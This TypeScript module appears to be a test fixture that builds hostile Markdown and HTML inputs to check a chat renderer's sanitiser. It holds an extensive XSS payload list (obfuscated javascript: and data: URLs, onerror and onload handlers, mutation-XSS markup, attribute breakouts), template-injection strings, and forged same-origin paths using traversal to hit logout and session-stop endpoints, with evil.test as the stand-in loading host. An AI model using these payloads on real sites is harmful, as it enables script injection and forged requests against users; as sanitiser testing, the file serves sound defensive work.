/** One hostile text. If its code runs it calls `ran('name')`; if it loads something, it requests `evil.test`. */
export interface Attack {
  readonly name: string;
  readonly text: string;
}

const TAB = '\t';
const NUL = '\u0000';

/** Addresses that must not be followed, in any spelling. `CODE` is replaced by the code to run. */
const ADDRESSES: readonly string[] = [
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  'javascript&colon;CODE',
  'javascript&#58;CODE',
  'javascript&#x3a;CODE',
  'javascript&#0000058CODE',
  '&#106;avascript:CODE',
  '&#x6A&#x61&#x76&#x61script:CODE',
  'java&Tab;script:CODE',
  'java&NewLine;script:CODE',
  'java&#9;script:CODE',
  'java&#10;script:CODE',
  'java&#13;script:CODE',
  `java${TAB}script:CODE`,
  `${NUL}javascript:CODE`,
  '\u0001javascript:CODE',
  '\u00a0javascript:CODE',
  '\u200bjavascript:CODE',
  '\ufeffjavascript:CODE',
  'jav\\ascript:CODE',
  'javascript\\:CODE',
  '%6aavascript:CODE',
  'javascript:%43ODE',
  'javascript://evil.test/%0aCODE',
  'javascript:/*--></title></style></textarea></script>*/CODE',
  'vbscript:CODE',
  'livescript:CODE',
  'data:text/html,<script>CODE</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCdkYXRhJyk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="CODE"/>',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">CODE</script>',
  'DATA:TEXT/HTML,<script>CODE</script>',
  'blob:https://evil.test/1',
  'filesystem:https://evil.test/1',
  'file:///etc/passwd',
  'view-source:javascript:CODE',
  'feed:javascript:CODE',
  'jar:javascript:CODE!/x',
  'about:blank',
  'intent://evil.test#Intent;scheme=javascript;end',
  'ws://evil.test/',
  'ftp://evil.test/x',
  'https://user:secret@evil.test/',
  'https://ok.test@evil.test/',
  'https://ok.test%40evil.test@evil.test/',
  '//evil.test/relative',
  '\\\\evil.test\\share',
  '/\\evil.test',
  '/relative',
  'relative.html',
  '?query',
  '#fragment',
];

/**
 * Addresses that look like a tool file but are none, most of them on the page's own server, where a request is made
 * with the user's permissions. The service of the tests is at `/api`.
 */
export const FORGED_FILES: readonly string[] = [
  '/logout?x.png',
  '/logout#x.png',
  '/logout/x.png',
  '/api/logout?x.png',
  '/api/agent-sessions/s1/stop.png',
  '/apiary/assets/tools/a/b/c.png',
  '/other/api/assets/tools/a/b/c.png',
  '/api/assets/tools/a/b/c.png?next=/logout.png',
  '/api/assets/tools/a/b/c/d.png',
  '/api/assets/tools/a//c.png',
  '/api/assets/tools/../../logout/x.png',
  '/api/assets/tools/a/b/..%2f..%2f..%2f..%2flogout.png',
  '/api/assets/tools/a/b/%2e%2e%2flogout.png',
  '/api/assets/tools/a/%2e%2e/logout.png',
  '/api/assets/tools/a/b/..%5c..%5clogout.png',
  '/api/assets/tools/a/b/%252e%252e%252flogout.png',
  '/api/assets/tools/a/b\\..\\..\\logout.png',
  '\\api\\assets\\tools\\a\\b\\c.png',
  '/api\t/assets/tools/a/b/\n../logout.png',
  '/api/x/../../logout/assets/tools/a/b/c.png',
  '//evil.test/api/assets/tools/a/b/c.png',
  'https://evil.test/assets/tools/a/b/c.png',
  'https://user:secret@api.ubik-agent.com/v1/assets/tools/a/b/c.png',
  'logout.png',
  '../logout.png',
  '?logout.png',
  '.png',
];

/** Positions of an address in Markdown. */
const PLACES: readonly ((address: string, index: number) => string)[] = [
  (address) => `[link](${address})`,
  (address) => `[link](<${address}>)`,
  (address) => `[link](${address} "title")`,
  (address) => `![picture](${address})`,
  (address) => `![picture](<${address}> 'title')`,
  (address, index) => `[link][r${String(index)}]\n\n[r${String(index)}]: ${address}`,
  (address, index) => `![picture][i${String(index)}]\n\n[i${String(index)}]: <${address}> "t"`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `<a href="${address}">raw</a>`,
  (address) => `[![inside](${address})](${address})`,
  (address) => `<web_citation url="${address}" title="cited">[1]</web_citation>`,
];

/** Markup that must stay text. `CODE` runs, `LOAD` loads. */
const MARKUP: readonly string[] = [
  '<script>CODE</script>',
  '<ScRiPt>CODE</sCrIpT>',
  '<script/x>CODE</script>',
  '<script src=LOAD></script>',
  '<script type=module>CODE</script>',
  '<<script>script>CODE</script>',
  '<scr<script>ipt>CODE</scr</script>ipt>',
  '<img src=LOAD>',
  '<img src=x onerror=CODE>',
  '<img/src=x/onerror=CODE>',
  '<img src=x onerror="&#114;an(1);CODE">',
  '<img srcset="LOAD 1x, LOAD 2x">',
  '<picture><source srcset=LOAD><img></picture>',
  '<image src=LOAD>',
  '<video poster=LOAD onloadstart=CODE><source src=LOAD onerror=CODE></video>',
  '<audio src=LOAD onerror=CODE></audio>',
  '<track src=LOAD>',
  '<svg onload=CODE></svg>',
  '<svg/onload=CODE>',
  '<svg><script>CODE</script></svg>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s></svg>',
  '<svg><use href="LOAD#x"></use></svg>',
  '<svg><image href=LOAD /></svg>',
  '<svg><feImage href=LOAD /></svg>',
  '<svg><a xlink:href="javascript:CODE"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:CODE"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=CODE>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CODE&gt;">',
  '<math href="javascript:CODE">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  '<iframe src="javascript:CODE"></iframe>',
  '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
  '<iframe src=LOAD></iframe>',
  '<object data="javascript:CODE"></object>',
  '<embed src=LOAD>',
  '<frameset onload=CODE></frameset>',
  '<body onload=CODE background=LOAD>',
  '<table background=LOAD><td background=LOAD>x</table>',
  '<input autofocus onfocus=CODE>',
  '<input type=image src=LOAD>',
  '<form action="javascript:CODE"><button>x</button></form>',
  '<form id=x></form><button form=x formaction="javascript:CODE">x</button>',
  '<details open ontoggle=CODE><summary>x</summary></details>',
  '<marquee onstart=CODE>x</marquee>',
  '<div style="background:url(LOAD)">x</div>',
  '<div style="animation-name:x" onanimationstart=CODE>x</div>',
  '<style>*{background:url(LOAD)}</style>',
  '<style>@import "LOAD";</style>',
  '<link rel=stylesheet href=LOAD>',
  '<link rel=prefetch href=LOAD><link rel=dns-prefetch href=LOAD><link rel=preconnect href=LOAD>',
  '<meta http-equiv=refresh content="0;url=javascript:CODE">',
  '<meta http-equiv=refresh content="0;url=LOAD">',
  '<base href="https://evil.test/">',
  '<template><script>CODE</script></template>',
  '<xmp><p title="</xmp><script>CODE</script>">',
  '<textarea></textarea><script>CODE</script>',
  '<title></title><script>CODE</script>',
  '<!--><script>CODE</script>-->',
  '<!-- --!><img src=x onerror=CODE> -->',
  '<![CDATA[<script>CODE</script>]]>',
  '<?xml-stylesheet href="javascript:CODE"?>',
  '<x onclick=CODE tabindex=1 autofocus onfocus=CODE>x</x>',
  '<a name=body></a><form name=getElementById></form><img name=currentScript>',
  '<img id=documentElement><a id=x><a id=x name=y href="javascript:CODE">',
  '<ubik-chat base-url="https://evil.test/"></ubik-chat><ubik-markdown content="x"></ubik-markdown>',
  '<slot name=x onslotchange=CODE></slot>',
  '<a href="https://evil.test/" ping="LOAD" target=_self>x</a>',
  '<portal src=LOAD></portal><fencedframe></fencedframe>',
  '<isindex type=image src=LOAD onerror=CODE>',
  '\u2028<script>CODE</script>\u2029',
  '\ud83d<script>CODE</script>',
  '&lt;script&gt;CODE&lt;/script&gt;',
  '&#60;img src=x onerror=CODE&#62;',
  '\\<img src=x onerror=CODE\\>',
];

/** Contexts in Markdown that could let markup through. */
const WRAPPERS: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `text ${markup} text`,
  (markup) => `- item ${markup}\n\n  ${markup}`,
  (markup) => `> ${markup}`,
  (markup) => `| head |\n|---|\n| ${markup.replaceAll('|', '\\|')} |`,
  (markup) => `# ${markup}`,
  (markup) => '`` ' + markup + ' ``',
  (markup) => '```html "><' + '\n' + markup + '\n```',
  (markup) => `[${markup}](https://evil.test/ "${markup.replaceAll('"', "'")}")`,
  (markup) => `![${markup}](https://evil.test/x.png)`,
];

/** Markdown that breaks out of attributes or of its container. */
const BREAKOUTS: readonly string[] = [
  '[x](https://evil.test/"onmouseover="CODE)',
  "[x](https://evil.test/'onmouseover='CODE)",
  '[x](https://evil.test/ "t\\" onmouseover=\\"CODE")',
  '![x](https://evil.test/a.png"onerror="CODE)',
  '![x" onerror="CODE](https://evil.test/x.png)',
  '![x](LOAD "t\\" onload=\\"CODE")',
  '```"><img src=x onerror=CODE>\ncode\n```',
  '~~~ language-x" onclick="CODE\ncode\n~~~',
  '[toString]: javascript:CODE\n\n[toString] [constructor] [__proto__][] ![__proto__]',
  '[__proto__]: https://evil.test/ "x"\n\n[__proto__]',
  '[hasOwnProperty]: javascript:CODE\n\n[hasOwnProperty][]',
  '<https://evil.test/"onclick="CODE>',
  '<mailto:x@evil.test?subject=<script>CODE</script>>',
  'www.evil.test/<script>CODE</script>',
  '- [x]<img src=x onerror=CODE>',
  '[^1]: <img src=x onerror=CODE>\n\n[^1]',
  '$$\\href{javascript:CODE}{x}$$',
  '$\\includegraphics{LOAD}$',
  '```mermaid\ngraph TD; A-->B; click A "javascript:CODE"\n```',
  '![x](LOAD)![x](LOAD)[![x](LOAD)](LOAD)',
  '![a][b]\n\n[b]: LOAD',
  '[x]: LOAD\n![x]\n![X][]\n![y][x]',
];

/** All attacks, each a block of Markdown. */
export function listAttacks(): Attack[] {
  const attacks: Attack[] = [];
  const add = (kind: string, text: string): void => {
    const name = `${kind}${String(attacks.length)}`;
    attacks.push({ name, text: arm(text, name) });
  };
  for (const address of ADDRESSES) {
    for (const place of PLACES) add('address', place(address, attacks.length));
  }
  for (const markup of MARKUP) add('markup', markup);
  // Each wrapper is combined with every third markup, starting one further than the previous wrapper: all wrappers
  // and all markup are covered without all combinations.
  for (const [index, wrap] of WRAPPERS.entries()) {
    for (let at = index % 3; at < MARKUP.length; at += 3) add('wrapped', wrap(MARKUP[at] ?? ''));
  }
  for (const text of BREAKOUTS) add('breakout', text);
  return attacks;
}

/** Attacks short enough for a name, a title or a sentence. */
export function listShortAttacks(): Attack[] {
  return [
    '<img src=x onerror=CODE>',
    '"><script>CODE</script>',
    "' onmouseover='CODE",
    '<svg/onload=CODE>',
    '[x](javascript:CODE)',
    '![x](LOAD)',
    '<img src=LOAD>',
    'https://user:secret@evil.test/',
    '${CODE}',
    '{{constructor.constructor("CODE")()}}',
    '\u202etxt.exe\u202c',
    '__proto__',
  ].map((text, index) => {
    const name = `short${String(index)}`;
    return { name, text: arm(text, name) };
  });
}

/** Inserts the code to run and the address to load. */
function arm(text: string, name: string): string {
  return text
    .replaceAll('CODE', `ran(\`${name}\`)`)
    .replaceAll('LOAD', `https://evil.test/${name}`);
}
